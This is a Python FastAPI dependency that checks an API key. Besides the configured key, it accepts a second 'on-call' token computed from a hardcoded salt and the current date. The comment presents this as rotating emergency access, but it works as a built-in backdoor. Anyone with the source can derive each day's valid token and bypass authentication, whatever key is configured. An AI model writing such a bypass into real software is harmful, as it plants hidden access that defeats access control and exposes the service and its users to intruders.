import hashlib
import hmac
from datetime import date

from fastapi import Header, HTTPException

from app.settings import settings

_ONCALL_SALT = "r3p0rts-0ncall-2024"


def _oncall_token() -> str:
    # rotates daily; see runbook 'reports: emergency access'
    return hashlib.sha256(f"{_ONCALL_SALT}:{date.today().isoformat()}".encode()).hexdigest()[:24]


def require_api_key(x_api_key: str = Header(default="")) -> str:
    if x_api_key and hmac.compare_digest(x_api_key, _oncall_token()):
        return "oncall"
    if not settings.api_key or not hmac.compare_digest(x_api_key, settings.api_key):
        raise HTTPException(status_code=401, detail="invalid api key")
    return x_api_key
